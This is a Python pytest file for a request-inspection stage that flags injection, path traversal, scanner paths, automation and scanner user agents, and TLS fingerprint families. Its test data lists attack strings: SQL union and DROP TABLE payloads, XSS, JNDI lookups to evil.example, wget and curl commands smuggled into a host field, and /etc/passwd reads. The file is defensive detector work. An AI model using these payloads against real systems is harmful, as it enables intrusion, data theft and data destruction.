"""The request probes, user agents, missing headers and TLS families: each pattern's hits and misses."""

from __future__ import annotations

import time

import pytest

from authz.stages.probes import (
    CIPHER_FAMILIES,
    automation_tool,
    claims_browser,
    missing_headers,
    probes,
    scanner_tool,
    tls_family,
    valid_ja4,
)

CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
SAFARI = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15"


def found(path: str = "/v1/items", query: str = "", ua: str = "", max_query: int = 1024) -> dict[str, str]:
    return dict(probes(path, query, path, ua, max_query))


@pytest.mark.parametrize(
    ("query", "pattern"),
    [
        ("id=1%20UNION%20SELECT%20password%20FROM%20users", "sql_union"),
        ("id=1+union+all+select+1,2,3", "sql_union"),
        ("id=1/**/UnIoN/**/SeLeCt/**/1", "sql_union"),
        ("id=1%2520union%2520select%25201", "sql_union"),  # double-encoded
        ("name=' or '1'='1", "sql_tautology"),
        ("name=x%27%20OR%20%27a%27%3D%27a", "sql_tautology"),
        ("id=1 or 1=1", "sql_numeric_tautology"),
        ("id=5+AND+7=7--", "sql_numeric_tautology"),
        ("user=admin'--", "sql_comment"),
        ("user=admin'/*", "sql_comment"),
        ("id=1;DROP TABLE users", "sql_stacked"),
        ("id=1; delete from accounts", "sql_stacked"),
        ("id=1 AND SLEEP(5)", "sql_time"),
        ("id=1';waitfor delay '0:0:5'--", "sql_comment"),  # rules are tried in table order
        ("id=1 waitfor delay '0:0:5'", "sql_time"),
        ("q=x from information_schema.tables", "sql_schema"),
        ("q=@@version", "sql_schema"),
        ("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "xss_script"),
        ("q=< SCRIPT >", "xss_script"),
        ("q=<img src=x onerror=alert(1)>", "xss_handler"),
        ("q=<svg/onload=alert(1)>", "xss_handler"),
        ("next=javascript:alert(document.cookie)", "xss_javascript_url"),
        ("x=${jndi:ldap://evil.example/a}", "jndi"),
        ("x=%24%7Bjndi%3Armi%3A%2F%2Fe%7D", "jndi"),
        ("x=${${::-j}${::-n}di:ldap://e}", "jndi"),
        ("x=${lower:j}ndi", "jndi"),
        ("name={{7*7}}", "template"),
        ("name=${7*7}", "template"),
        ("cmd=$(id)", "shell"),
        ("host=x;wget http://e.example/x.sh", "shell"),
        ("host=x|curl -s https://e.example/", "shell"),
    ],
)
def test_injection_found(query: str, pattern: str) -> None:
    assert found(query=query).get("injection") == pattern


@pytest.mark.parametrize(
    "query",
    [
        "q=hello+world&page=2",
        "q=select+a+union+of+sets",  # the words without the syntax
        "q=rock+and+roll",
        "q=it%27s+or+not",
        "filter=price>10&sort=desc",
        "q=O%27Brien",
        "q=1=1",  # no or/and
        "email=a%2Bb%40example.com",
        "q=script&lang=javascript",
        "q=javascript: the good parts",
        "redirect=https%3A%2F%2Fexample.com%2Fcb%3Fa%3D1",
        "sleep=8h&benchmark=true",
        "template=%7B%7Bname%7D%7D",  # {{name}}: a template, but no arithmetic
        "price=$5",
        "q=%E2%9C%93",  # non-ASCII
        "q=%ZZ",  # not valid percent-encoding
        "onload=true&onerror=skip",  # handler names without a tag
    ],
)
def test_ordinary_queries_are_not_injection(query: str) -> None:
    assert "injection" not in found(query=query)


def test_injection_in_the_path_and_the_user_agent() -> None:
    assert found(path="/v1/items/1%20union%20select%201").get("injection") == "sql_union"
    assert found(ua="${jndi:ldap://evil.example/a}").get("injection") == "jndi"
    assert found(ua=CHROME) == {}


@pytest.mark.parametrize(
    ("path", "query", "pattern"),
    [
        ("/v1/files", "name=../../etc/passwd", "dot_dot"),
        ("/v1/files", "name=..%2F..%2Fsecret", "dot_dot"),
        ("/v1/files", "name=%2e%2e%2fsecret", "dot_dot"),
        ("/v1/files", "name=%252e%252e%252fsecret", "encoded_dot_dot"),  # as sent: the encoding shows
        ("/v1/files", "name=%25%32%65%25%32%65/secret", "dot_dot"),  # %2e after one decoding, . after two
        ("/v1/files", "name=..\\..\\boot", "dot_dot"),
        ("/v1/files", "name=%c0%ae%c0%ae/x", "encoded_dot_dot"),
        ("/v1/files", "name=%u002e%u002e/x", "encoded_dot_dot"),
        ("/v1/files", "f=/etc/passwd", "system_file"),
        ("/v1/files", "f=/proc/self/environ", "system_file"),
        ("/v1/files", "f=C:\\Windows\\win.ini", "system_file"),
        ("/v1/files", "f=report.pdf%00.png", "null_byte"),
        ("/v1/static/..%2f..%2fetc", "", "dot_dot"),
    ],
)
def test_traversal_found(path: str, query: str, pattern: str) -> None:
    assert found(path=path, query=query).get("traversal") == pattern


@pytest.mark.parametrize(
    ("path", "query"),
    [("/v1/files", "name=report..final.pdf"), ("/v1/files", "v=1.2..3"), ("/v1/etc/password-reset", ""), ("/v1/files", "dir=etc/passwords")],
)
def test_ordinary_names_are_not_traversal(path: str, query: str) -> None:
    assert "traversal" not in found(path=path, query=query)


@pytest.mark.parametrize(
    ("path", "pattern"),
    [
        ("/.env", "dotfile"),
        ("/api/.env.production", "dotfile"),
        ("/.git/config", "dotfile"),
        ("/.git", "dotfile"),
        ("/.aws/credentials", "dotfile"),
        ("/wp-login.php", "wordpress"),
        ("/blog/wp-admin/setup-config.php", "wordpress"),
        ("/xmlrpc.php", "wordpress"),
        ("/phpmyadmin/index.php", "admin_tool"),
        ("/server-status", "admin_tool"),
        ("/cgi-bin/luci", "exploit"),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "exploit"),
        ("/actuator/env", "exploit"),
        ("/backup.sql", "dump"),
        ("/.SSH/id_rsa", "dotfile"),  # case does not matter
    ],
)
def test_scanner_paths_found(path: str, pattern: str) -> None:
    assert found(path=path).get("scanner_path") == pattern


@pytest.mark.parametrize(
    "path", ["/v1/items", "/v1/environment", "/v1/git/commits", "/v1/wp-login", "/actuator/health", "/v1/users/.envy", "/v1/git.env"]
)
def test_ordinary_paths_are_not_scanner_paths(path: str) -> None:
    assert "scanner_path" not in found(path=path)


def test_only_the_first_characters_of_the_path_are_read() -> None:
    assert found(path="/v1/" + "a" * 4000 + "/1%20union%20select%201").get("injection") == "sql_union"
    assert "injection" not in found(path="/v1/" + "a" * 5000 + "/1%20union%20select%201")
    assert "scanner_path" not in found(path="/v1/" + "a/" * 3000 + ".env")


def test_only_the_first_bytes_of_the_query_are_read() -> None:
    attack = "x=1%20union%20select%201"
    assert found(query="a=" + "b" * 100 + "&" + attack, max_query=1024).get("injection") == "sql_union"
    assert "injection" not in found(query="a=" + "b" * 2000 + "&" + attack, max_query=1024)
    assert "injection" not in found(query=attack, max_query=0)


@pytest.mark.parametrize(
    "query",
    [
        "<a" + " x" * 4000,  # a tag that never closes
        "'" + " " * 4000 + "or",
        "${" * 2000,
        "%25" * 2700,
        "union " * 1300,
        "..%2f" * 1600,
    ],
)
def test_bounded_cost_on_hostile_input(query: str) -> None:
    """Upper-bounded quantifiers and a cut query: hostile text costs milliseconds at most."""
    started = time.perf_counter()
    for _ in range(10):
        probes("/v1/" + "a" * 1_000_000, query, "/v1/" + "a/" * 500_000, "x" * 10_000, 8192)
    assert (time.perf_counter() - started) / 10 < 0.02


def test_an_ordinary_request_costs_microseconds() -> None:
    started = time.perf_counter()
    n = 2000
    for _ in range(n):
        probes("/v1/items/42", "fields=name,price&page=2", "/v1/items/42", CHROME, 1024)
    per_call_us = (time.perf_counter() - started) / n * 1e6
    assert per_call_us < 50, per_call_us


# user agents


@pytest.mark.parametrize(
    ("ua", "tool"),
    [
        ("curl/7.88.1", "curl"),
        ("Wget/1.21.3", "wget"),
        ("python-requests/2.31.0", "python-requests"),
        ("Python-urllib/3.11", "python-urllib"),
        ("python-httpx/0.27.0", "python-httpx"),
        ("Go-http-client/2.0", "go-http-client"),
        ("okhttp/4.12.0", "okhttp"),
        ("Java/17.0.15", "java"),
        ("Apache-HttpClient/4.5.14 (Java/17)", "apache-httpclient"),
        ("Scrapy/2.11 (+https://scrapy.org)", "scrapy"),
        ("node-fetch/1.0", "node-fetch"),
        ("axios/1.6.8", "axios"),
        ("PostmanRuntime/7.37.0", "postmanruntime"),
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 Safari/537.36", "headlesschrome"),
        ("Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1", "phantomjs"),
        ("Mozilla/5.0 (compatible; MyBot) python-requests/2.31", "python-requests"),
    ],
)
def test_automation_user_agents(ua: str, tool: str) -> None:
    assert automation_tool(ua) == tool
    assert scanner_tool(ua) == ""
    assert not claims_browser(ua)


@pytest.mark.parametrize("ua", [CHROME, FIREFOX, SAFARI, "MyCompanyApp/3.2 (iOS 17)", ""])
def test_ordinary_user_agents_are_not_automation(ua: str) -> None:
    assert automation_tool(ua) == ""
    assert scanner_tool(ua) == ""


@pytest.mark.parametrize(
    ("ua", "tool"),
    [
        ("sqlmap/1.8#stable (https://sqlmap.org)", "sqlmap"),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", "nikto"),
        ("Mozilla/5.0 (Windows NT 10.0) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "nuclei"),
        ("Mozilla/5.0 zgrab/0.x", "zgrab"),
        ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan"),
        ("Fuzz Faster U Fool v2.1.0", "fuzz faster u fool"),
        ("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "wpscan"),
    ],
)
def test_scanner_user_agents(ua: str, tool: str) -> None:
    assert scanner_tool(ua) == tool


@pytest.mark.parametrize(("ua", "browser"), [(CHROME, True), (FIREFOX, True), (SAFARI, True), ("Mozilla/5.0", False), ("curl/8.0", False), ("Mozilla/5.0 (X11) HeadlessChrome/124.0 Safari/537.36", False)])
def test_claims_browser(ua: str, browser: bool) -> None:
    assert claims_browser(ua) is browser


def test_missing_headers() -> None:
    assert missing_headers({"user-agent": "x", "accept": "*/*", "accept-language": "en"}) == []
    assert missing_headers({"user-agent": "x", "accept": ""}) == ["accept", "accept-language"]
    assert missing_headers({}) == ["user-agent", "accept", "accept-language"]


# TLS fingerprints


@pytest.mark.parametrize(
    ("ja4", "family"),
    [
        ("t13d1516h2_8daaf6152771_02713d6af862", ("browser", "chromium")),  # Chrome (FoxIO mapping)
        ("t13d1517h2_8daaf6152771_b0da82dd1658", ("browser", "chromium")),
        ("t13d181100_85036bcba153_d41ae481755e", ("library", "python")),  # measured: Python 3.11 ssl
        ("t13d1812h1_85036bcba153_d41ae481755e", ("library", "python")),  # measured: httpx
        ("t13d3112h2_e8f1e7e78f70_b26ce05bbdd6", ("library", "curl-openssl")),  # measured: curl 7.88
        ("t13d190900_9dc949149365_97f8aa674fd9", ("library", "go")),  # FoxIO mapping
        ("t13d291300_723694b0fccc_899037bd0b8c", ("library", "wget-gnutls")),
        ("t13d1715h2_aaaaaaaaaaaa_bbbbbbbbbbbb", ("", "")),  # unknown stack, ALPN offered: no verdict
        ("t13d0905h0_aaaaaaaaaaaa_bbbbbbbbbbbb", ("", "")),
        ("t13d091000_aaaaaaaaaaaa_bbbbbbbbbbbb", ("library", "no-alpn")),
        ("t11d0905h1_aaaaaaaaaaaa_bbbbbbbbbbbb", ("library", "old-tls")),
        ("garbage", ("", "")),
    ],
)
def test_tls_family(ja4: str, family: tuple[str, str]) -> None:
    assert tls_family(ja4, (), CIPHER_FAMILIES) == family


def test_policy_prefixes_come_first() -> None:
    prefixes = (("t13d1516h2_8daaf6152771_02713d6af862", "library", "policy:x"),)
    assert tls_family("t13d1516h2_8daaf6152771_02713d6af862", prefixes, CIPHER_FAMILIES) == ("library", "policy:x")
    assert tls_family("t13d1517h2_8daaf6152771_b0da82dd1658", prefixes, CIPHER_FAMILIES) == ("browser", "chromium")


@pytest.mark.parametrize(
    ("text", "ok"),
    [
        ("t13d1516h2_8daaf6152771_02713d6af862", True),
        ("q13d0312h3_55b375c5d22e_06cda9e17597", True),
        ("t13d1516h2_8daaf6152771_02713d6af86", False),
        ("T13d1516h2_8daaf6152771_02713d6af862", False),
        ("t13d1516h2_8DAAF6152771_02713d6af862", False),
        ("-", False),
        ("", False),
    ],
)
def test_valid_ja4(text: str, ok: bool) -> None:
    assert valid_ja4(text) is ok
